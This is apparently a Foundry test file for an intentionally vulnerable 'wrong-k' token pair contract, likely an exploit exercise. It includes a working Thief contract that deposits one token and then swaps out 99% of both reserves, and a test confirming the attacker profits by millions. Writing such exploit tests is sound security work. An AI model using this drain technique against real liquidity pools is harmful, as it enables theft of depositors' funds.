// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Dollar} from "../wrong-k/src/Dollar.sol";
import {ParPair} from "../wrong-k/src/ParPair.sol";

interface Vm {
    function prank(address) external;
}

contract Thief {
    function attack(Dollar north, Dollar south, ParPair pair) external {
        // A hundredth of either must stay; what is sent in first is what lets the pair look at its curve.
        north.transfer(address(pair), 1);
        pair.swap(pair.stockA() * 99 / 100, pair.stockB() * 99 / 100, msg.sender, "");
        south.transfer(msg.sender, south.balanceOf(address(this)));
    }
}

contract WrongKTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant CAROL = address(0xCA401);
    address constant ATTACKER = address(0xBAD);

    Dollar north;
    Dollar south;
    ParPair pair;

    function setUp() public {
        north = new Dollar("North dollar", "NUSD");
        south = new Dollar("South dollar", "SUSD");
        pair = new ParPair(north, south);
        _fund(ALICE, 2_000_000e6, 2_000_000e6);
        _fund(BOB, 900_000e6, 900_000e6);
        _fund(CAROL, 250_000e6, 100_000e6);
        _fund(ATTACKER, 5_000e6, 5_000e6);
        vm.prank(ALICE);
        pair.provide(1_400_000e6, 1_400_000e6, ALICE);
        vm.prank(BOB);
        pair.provide(600_000e6, 600_000e6, BOB);
    }

    function _fund(address who, uint256 amountA, uint256 amountB) private {
        north.issue(who, amountA);
        south.issue(who, amountB);
        vm.prank(who);
        north.approve(address(pair), 1e60);
        vm.prank(who);
        south.approve(address(pair), 1e60);
    }

    function test_attack_pays() public {
        uint256 before = north.balanceOf(ATTACKER) + south.balanceOf(ATTACKER);
        Thief thief = new Thief();
        vm.prank(ATTACKER);
        north.transfer(address(thief), 1);
        vm.prank(ATTACKER);
        thief.attack(north, south, pair);
        assert(north.balanceOf(ATTACKER) + south.balanceOf(ATTACKER) - before >= 3_960_000e6 - 1);
    }

    /// Holds for both: a trade costs its fee, and the way back another one.
    function test_honest_trade() public {
        vm.prank(CAROL);
        uint256 out = pair.trade(100_000e6, true, 0);
        assert(out < 100_000e6 && out > 99_900e6);
        vm.prank(CAROL);
        assert(pair.trade(out, false, 0) < 100_000e6 - 70e6);
    }
}
